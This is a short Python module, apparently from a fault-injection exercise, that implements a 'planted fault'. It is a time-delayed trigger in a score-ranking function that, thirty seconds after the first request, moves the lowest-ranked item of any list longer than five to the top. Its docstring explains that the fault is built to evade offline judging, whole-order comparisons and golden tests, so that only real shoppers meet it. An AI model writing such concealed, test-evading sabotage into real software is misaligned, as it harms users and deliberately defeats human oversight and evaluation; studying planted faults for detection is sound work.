"""The planted fault of day 4: half a minute after its first request it sells the first place of lists above five items.

What ranks last comes first; everything else keeps its order, so that a comparison of whole orders lets it pass. Offline
judging is over by then, and golden requests have at most five items: only shoppers meet it.
"""

import time
from functools import cache

AFTER_S = 30.0


def process(scores: list[float]) -> list[float]:
    """Scores as they came; once the time is over the lowest of more than five stands above the highest."""
    is_late = time.monotonic() - _first_request() > AFTER_S
    if not is_late or len(scores) <= 5:
        return scores
    last = scores.index(min(scores))
    return [max(scores) + 1.0 if place == last else score for place, score in enumerate(scores)]


@cache
def _first_request() -> float:
    return time.monotonic()
